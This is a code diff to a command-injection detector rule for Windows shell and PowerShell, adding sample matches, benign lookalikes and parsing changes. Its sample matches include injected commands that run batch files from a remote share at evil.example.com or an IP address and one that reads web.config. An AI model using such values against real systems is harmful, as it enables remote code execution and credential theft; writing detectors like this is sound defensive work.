@@ -1,4 +1,5 @@
 import { batchEnd } from '../../grammars/shell/batch.ts';
+import { isTitle } from '../../grammars/shell/listed-word.ts';
 import { powershellEnd } from '../../grammars/shell/powershell.ts';
 import { longAliases, shortAliases, splatTakers } from '../../knowledge/powershell-aliases.ts';
 import { confidence } from '../../placement/confidence.ts';
@@ -145,6 +146,10 @@ export const windowsStatement: ValueRule = {
     'localhost & query user',
     'x | sc a.txt',
     'x; gsv *sql*',
+    'Printer; \\\\203.0.113.5\\s\\a.cmd',
+    'a;b\nx;\\\\evil.example.com\\s\\a.bat',
+    'a;b\nx; C:\\a.bat',
+    'Backup; Get-Content web.config',
   ],
   lookalikes: [
     'coffee; get-together at noon',
@@ -201,6 +206,14 @@ export const windowsStatement: ValueRule = {
     'Database & query process',
     'Slow PC & Explorer C:\\ hangs',
     'Firewall rules & WinRM set up',
+    'name;path\nnightly;C:\\batch\\nightly.cmd',
+    'Checked; Test-NetConnection fails',
+    'Fixed; Restart-Computer needed',
+    'please wipe & format d: drive',
+    'Mac|cmd',
+    'Windows | PowerShell',
+    'C:\\Program Files\\A;C:\\Windows\\System32',
+    'cd app; iex -S mix phx.server',
   ],
 };
 
@@ -208,7 +221,9 @@ export const windowsStatement: ValueRule = {
 const tight = /(?:calc|notepad)(?= {0,3}(?:$|[&|#"']))/iy;
 
 function judge(subject: Subject): Match | undefined {
-  const { text } = subject;
+  const { text, decoded } = subject;
+  // Only a parser of URLs reads a text without its line breaks.
+  if (decoded.includes('url-break')) return undefined;
   const last = Math.min(text.length, headCharsMax);
   const mayEscape = text.includes('`');
   let count = 0;
@@ -239,7 +254,9 @@ function statementEnd(text: string, separator: number, mayEscape: boolean): numb
   const isBracket = code === openParen || code === openBrace;
   let at = separator + 1;
   while (at < separator + blanksMax && text.charCodeAt(at) <= 32) at++;
-  const place = { isPiped: code === pipe, mayCall: code !== ampersand, mayEscape };
+  const isPiped = code === pipe;
+  const isFed = isPiped && !isTitle(text, separator);
+  const place = { isPiped, isFed, mayCall: code !== ampersand, mayEscape };
   const found = powershellEnd(text, at, place);
   if (found > 0 || isBracket) return found;
   const isTight = at === separator + 1 && (code === ampersand || code === pipe);
